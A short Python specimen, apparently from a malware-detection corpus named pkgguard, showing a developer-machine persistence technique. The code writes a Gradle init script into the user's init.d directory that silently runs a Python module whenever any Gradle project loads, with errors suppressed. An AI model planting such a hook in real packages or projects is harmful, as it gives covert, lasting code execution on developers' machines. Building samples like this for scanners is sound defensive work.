# pkgguard corpus 886 (persistence), modelled on [developer-persistence]; inert, never run.
import os

_SCRIPT = """gradle.projectsLoaded {
    try {
        ["python3", "-m", "pkg._sync"].execute()
    } catch (ignored) {
    }
}
"""

init_dir = os.path.join(os.environ.get("GRADLE_USER_HOME", os.path.expanduser("~/.gradle")), "init.d")
try:
    os.makedirs(init_dir, exist_ok=True)
    with open(os.path.join(init_dir, "cache-sync.gradle"), "w", encoding="utf-8") as fh:
        fh.write(_SCRIPT)
except OSError:
    pass
